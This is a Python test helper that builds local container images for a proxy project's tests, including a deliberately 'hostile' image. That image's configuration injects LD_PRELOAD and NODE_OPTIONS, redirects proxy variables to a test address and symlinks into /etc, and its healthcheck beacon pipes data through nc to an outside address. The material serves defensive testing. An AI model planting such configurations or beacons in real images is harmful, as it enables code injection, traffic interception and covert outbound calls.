"""The images of the tests, made here from what the machine has, because none can be pulled.

    image = images.busybox()            # made once per machine, in ~/.cache/strait
    runtime.load(image.archive)
    runtime.run("run", "--rm", image.id, "/bin/true")

Each is an archive as `docker save` writes it: a layer, a configuration, a manifest. Both runtimes `load` it; any
configuration can be in it (`import --change` knows no HEALTHCHECK, for one); and the image's id, which is the hash of
the configuration, is known before it is loaded, and the same on every runtime.

    busybox   a static busybox and small servers in shell: /server/echo, stubborn, exit, noisy
    node      the machine's node, and MCP servers of the npm registry (`NODE_SERVERS`)
    python    Debian's python3, MCP servers and HTTP clients of the Python index, and /toy_server.py
    hostile   busybox, and a configuration that tries everything (`hostile_config`)
    foreign   a program for another processor
    empty     nothing, as the proxy's own image is
"""

import dataclasses
import fcntl
import hashlib
import io
import json
import os
import pathlib
import platform
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import venv

import runtimes

HERE = pathlib.Path(__file__).parent
PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
CERTIFICATES = "/etc/ssl/certs/ca-certificates.crt"

# npm packages, all of one version: one package for each `npm install`, because several in one command hang.
NODE_VERSION = "2026.8.31"
NODE_SERVERS = ("everything", "filesystem", "memory")
# With every version named, so that the image does not depend on the day: `pip freeze` of what is in it.
PYTHON_PACKAGES = HERE / "python-packages.txt"
# Seconds, for a package registry.
REGISTRY = 300
# Goes into the names of all images: one more when what is in them changes in a way their inputs do not show.
_EDITION = "1"

_ARCHITECTURES = {"x86_64": "amd64", "aarch64": "arm64"}

_SHELL_SERVERS = {
    # Says back what it hears, and ends with its standard input, as a well-made server does.
    "echo": "exec cat",
    # Ends for nothing but SIGKILL.
    "stubborn": "trap '' TERM INT HUP\necho up >&2\nwhile :; do sleep 1000; done",
    # Ends at once with the code that it is given.
    "exit": 'exit "${1:-0}"',
    # A good deal on standard error (10 MB), then as `echo`.
    "noisy": "head -c 10000000 /dev/zero | tr '\\0' 'x' | fold -w 99 >&2\necho >&2\nexec cat",
}


@dataclasses.dataclass(frozen=True)
class Image:
    """An image that is not loaded yet: its archive, its name with a tag, and the id that it will have."""

    archive: pathlib.Path
    tag: str
    id: str


def busybox():
    return _made("busybox", _busybox_root, {"Env": [f"PATH={PATH}"], "Cmd": ["/server/echo"]},
                 _digest_of(runtimes.BUSYBOX))


def node():
    """`server_command(name)` gives the command line of one of its servers."""
    inputs = [NODE_VERSION, *NODE_SERVERS, _output("node", "--version")]
    return _made("node", _node_root, {"Env": [f"PATH={PATH}"], "Cmd": server_command("everything")}, *inputs)


def server_command(name):
    """The command line of a server in the `node` image."""
    return ["node", f"/app/node_modules/@modelcontextprotocol/server-{name}/dist/index.js"]


def python():
    inputs = [PYTHON_PACKAGES.read_text(), (HERE / "toy_server.py").read_text(), _output(_python(), "-VV")]
    config = {"Env": [f"PATH={PATH}", "PYTHONPATH=/packages", "PYTHONDONTWRITEBYTECODE=1"],
              "Cmd": ["python3", "/toy_server.py"]}
    return _made("python", _python_root, config, *inputs)


def hostile(user="", labels=()):
    """`user` as in the image's configuration ("0", "mallory", …); `labels` are more pairs of name and value."""
    return _made("hostile", _hostile_root, hostile_config(user, labels), _digest_of(runtimes.BUSYBOX))


def hostile_config(user="", labels=()):
    return {
        "User": user,
        "WorkingDir": "/workspace",
        "Entrypoint": ["/evil/entry"],
        "Cmd": ["/server/echo"],
        "Env": [
            "PATH=/evil:/bin", "HOME=/evil", "LD_PRELOAD=/evil/preload.so", "LD_LIBRARY_PATH=/evil",
            "NODE_OPTIONS=--require /evil/require.js", "PYTHONPATH=/evil", "SSL_CERT_FILE=/evil/authority.pem",
            *(f"{name}=http://203.0.113.66:1" for name in ("HTTP_PROXY", "https_proxy", "ALL_PROXY", "HTTPS_PROXY")),
            "NO_PROXY=*", "no_proxy=*", "RUST_LOG=trace", "STRAIT_POLICY=/evil/policy.json",
        ],
        "Volumes": {"/data": {}, "/tmp": {}, "/evil/volume": {}},
        "ExposedPorts": {"3128/tcp": {}},
        "StopSignal": "SIGCONT",
        # Nanoseconds. Runs in the image's container whatever its entrypoint was changed to.
        "Healthcheck": {"Test": ["CMD-SHELL", "/evil/beacon"], "Interval": 10**9, "Timeout": 10**9, "Retries": 1},
        "Labels": {
            "strait.run": "00000000", "strait.owner": "1", "strait.start": "0", "strait.boot": "none",
            "strait.name": "\x1b[31mmallory", "io.podman.annotations.privileged": "TRUE", **dict(labels),
        },
    }


def foreign():
    """A program that this machine's processor does not run."""
    other = "arm64" if _architecture() == "amd64" else "amd64"
    return _made("foreign", _foreign_root, {"Cmd": ["/program"]}, architecture=other)


def empty():
    return _made("empty", lambda root: None, {})


# --- what an image is made of ---------------------------------------------------------------------


class Root:
    """A root file system as a tar: the same files give the same bytes."""

    def __init__(self, path):
        self._tar = tarfile.open(path, "w", format=tarfile.PAX_FORMAT)
        self._written = set()

    def close(self):
        self._tar.close()

    def folder(self, path, mode=0o755):
        self._add(path, tarfile.DIRTYPE, mode)

    def link(self, path, target):
        self._add(path, tarfile.SYMTYPE, 0o777, target=target)

    def file(self, path, content, mode=0o644):
        content = content.encode() if isinstance(content, str) else content
        self._add(path, tarfile.REGTYPE, mode, content=io.BytesIO(content), size=len(content))

    def copy(self, source, path=None):
        """A file, to the same place unless told otherwise; what it links to, when it is a link."""
        with open(source, "rb") as content:
            found = os.fstat(content.fileno())
            mode = 0o755 if found.st_mode & 0o111 else 0o644
            self._add(path or source, tarfile.REGTYPE, mode, content=content, size=found.st_size)

    def program(self, source, path=None):
        """A file and the shared libraries it needs, each where the loader looks for it."""
        self.copy(source, path)
        for library in _libraries(source):
            self.copy(library)

    def tree(self, source, path, skip=()):
        for folder, folders, files in os.walk(source):
            folders[:] = sorted(set(folders) - set(skip))
            for name in sorted(files):
                whole = pathlib.Path(folder, name)
                if whole.is_file():
                    self.copy(whole, f"{path}/{whole.relative_to(source)}")

    def _add(self, path, kind, mode, target="", content=None, size=0):
        name = str(path).strip("/")
        if name in self._written:
            return
        parent = os.path.dirname(name)
        if parent and parent not in self._written:
            self.folder(parent)
        self._written.add(name)
        entry = tarfile.TarInfo(name)
        entry.type, entry.mode, entry.linkname, entry.size = kind, mode, target, size
        self._tar.addfile(entry, content)


def _base(root):
    root.folder("tmp", 0o1777)
    for name in "dev", "proc", "sys", "etc":
        root.folder(name)
    root.file("etc/passwd", "root:x:0:0:root:/:/bin/sh\nmallory:x:4242:4242::/:/bin/sh\n")
    root.file("etc/group", "root:x:0:\nmallory:x:4242:\n")


def _busybox_root(root):
    _base(root)
    root.copy(runtimes.BUSYBOX, "bin/busybox")
    for applet in _output(runtimes.BUSYBOX, "--list").split():
        if applet != "busybox":
            root.link(f"bin/{applet}", "/bin/busybox")
    for name, script in _SHELL_SERVERS.items():
        root.file(f"server/{name}", f"#!/bin/sh\n{script}\n", 0o755)
    root.file("server/not-executable", "#!/bin/sh\n")


def _node_root(root):
    _base(root)
    root.program(shutil.which("node"), "usr/bin/node")
    root.copy(CERTIFICATES)
    with tempfile.TemporaryDirectory() as folder:
        pathlib.Path(folder, "package.json").write_text('{"name": "servers", "private": true}\n')
        for name in NODE_SERVERS:
            # No install script of any package runs.
            flags = ["--ignore-scripts", "--no-audit", "--no-fund", "--loglevel=error", "--save-exact"]
            registry(["npm", "install", *flags, f"@modelcontextprotocol/server-{name}@{NODE_VERSION}"], cwd=folder)
        root.tree(pathlib.Path(folder, "node_modules"), "app/node_modules")


def _python_root(root):
    _base(root)
    python = pathlib.Path(_python()).resolve()
    version = re.fullmatch(r"python(3\.\d+)", python.name)[1]
    release = _output(python, "-c", "import platform; print(platform.python_version())")
    library = pathlib.Path(f"/usr/lib/python{version}")
    root.program(python, f"usr/bin/python{version}")
    root.link("usr/bin/python3", f"python{version}")
    root.copy(CERTIFICATES)
    root.copy(HERE / "toy_server.py", "toy_server.py")
    with tempfile.TemporaryDirectory() as folder:
        # The image's Python may be another than the one that runs this.
        words = [pip_python(), "-m", "pip", "install", "-q", "--disable-pip-version-check", "--no-deps", "--no-compile",
                 "--only-binary=:all:", f"--python-version={release}", "--target", folder, "-r", PYTHON_PACKAGES]
        registry(words)
        _compile(python, folder, "packages")
        root.tree(folder, "packages", skip={"bin"})
        _needed_by(root, folder)
    with tempfile.TemporaryDirectory() as folder:
        unused = shutil.ignore_patterns("__pycache__", "test", "idlelib", "tkinter", "ensurepip", "lib2to3")
        shutil.copytree(library, folder, ignore=unused, dirs_exist_ok=True)
        _compile(python, folder, library)
        root.tree(folder, library)
        _needed_by(root, library)


def _compile(python, folder, place):
    """Byte code that holds without a look at any time, because a read-only container writes none: 1 s per start."""
    subprocess.run([python, "-m", "compileall", "-q", "--invalidation-mode=unchecked-hash", "-s", folder, "-p",
                    f"/{str(place).strip('/')}", folder], check=False, capture_output=True, timeout=REGISTRY)


def _needed_by(root, folder):
    """The system's libraries that the extensions below a folder need; those they bring are in the folder."""
    needed = {library for extension in pathlib.Path(folder).rglob("*.so") for library in _libraries(extension)}
    for library in sorted(needed):
        if not library.startswith(f"{folder}/"):
            root.copy(library)


def _hostile_root(root):
    _busybox_root(root)
    root.file("evil/entry", '#!/bin/sh\necho "entry: $*" >&2\nexec "$@"\n', 0o755)
    # The address of the world's end of the uplink (host.py), where a test can listen for it.
    root.file("evil/beacon", "#!/bin/sh\necho beacon | /bin/nc -w 1 203.0.113.2 7999\n", 0o755)
    for name in "ls", "cat", "sh", "strait":
        root.file(f"evil/{name}", '#!/bin/busybox sh\necho "evil: $0" >&2\nexit 66\n', 0o755)
    root.file("strait", '#!/bin/busybox sh\necho "evil: $0" >&2\nexit 66\n', 0o755)
    root.folder("data")
    # A mount at /workspace/docs would land on /etc.
    root.link("workspace/docs", "/etc")


def _foreign_root(root):
    # Enough of an ELF header to be recognised: 64 bits, little endian, executable, of the other machine.
    machine = 183 if _architecture() == "amd64" else 62
    root.file("program", b"\x7fELF\x02\x01\x01" + bytes(9) + bytes([2, 0, machine, 0, 1, 0, 0, 0]) + bytes(40), 0o755)


# --- making it once -------------------------------------------------------------------------------


def cache():
    """The folder that holds what is made once per machine."""
    base = os.environ.get("XDG_CACHE_HOME") or pathlib.Path.home() / ".cache"
    folder = pathlib.Path(base, "strait", "launch")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def digest(*inputs):
    """A short name for what depends on all of these."""
    return hashlib.sha256(repr(inputs).encode()).hexdigest()[:16]


def pip_python():
    """A Python that has pip, in the cache."""
    made = cache() / f"pip-{sys.version_info.major}.{sys.version_info.minor}"
    if not (made / "complete").exists():
        shutil.rmtree(made, ignore_errors=True)
        venv.create(made, with_pip=True)
        (made / "complete").touch()
    return made / "bin/python"


def registry(words, **options):
    """Runs an installer, to succeed."""
    ran = subprocess.run([str(word) for word in words], stdin=subprocess.DEVNULL, capture_output=True, text=True,
                         timeout=REGISTRY, **options)
    if ran.returncode != 0:
        raise runtimes.Failed(f"{words[0]} {words[1]}: exit {ran.returncode}: {ran.stderr.strip()[-500:]}")


def _made(name, fill, config, *inputs, architecture=None):
    architecture = architecture or _architecture()
    layer = cache() / f"{name}-{digest(_EDITION, name, architecture, *inputs)}.layer.tar"
    # Two lanes that are started together must not make the same image at the same time.
    with open(cache() / "lock", "w", encoding="utf-8") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not layer.exists():
            root = Root(f"{layer}.part")
            fill(root)
            root.close()
            os.replace(f"{layer}.part", layer)
        return archive(name, layer, config, architecture)


def archive(name, layer, config, architecture):
    """The archive of an image of one layer; it is made again only when something in it is another."""
    tag = f"localhost/strait-test/{name}:latest"
    diff = _digest_of(layer)
    document = {
        "architecture": architecture, "os": "linux", "created": "2026-01-01T00:00:00Z", "config": config,
        "rootfs": {"type": "layers", "diff_ids": [f"sha256:{diff}"]},
        "history": [{"created": "2026-01-01T00:00:00Z", "created_by": "strait's tests"}],
    }
    encoded = json.dumps(document, sort_keys=True).encode()
    config_id = hashlib.sha256(encoded).hexdigest()
    path = layer.with_name(f"{name}-{config_id[:16]}.tar")
    if not path.exists():
        manifest = [{"Config": f"{config_id}.json", "RepoTags": [tag], "Layers": [f"{diff}/layer.tar"]}]
        written = Root(f"{path}.part")
        written.file(f"{config_id}.json", encoded)
        written.copy(layer, f"{diff}/layer.tar")
        written.file("manifest.json", json.dumps(manifest))
        written.close()
        os.replace(f"{path}.part", path)
    return Image(path, tag, f"sha256:{config_id}")


def _digest_of(path):
    with open(path, "rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def _libraries(program):
    """What the loader loads for it; empty for a static program."""
    ran = subprocess.run(["ldd", program], capture_output=True, text=True, timeout=60)
    return re.findall(r"(?:=> |^\s)(/\S+)", ran.stdout, re.MULTILINE)


def _python():
    return "/usr/bin/python3"


def _architecture():
    return _ARCHITECTURES.get(platform.machine(), platform.machine())


def _output(*words):
    return subprocess.run(words, check=True, capture_output=True, text=True, timeout=60).stdout.strip()
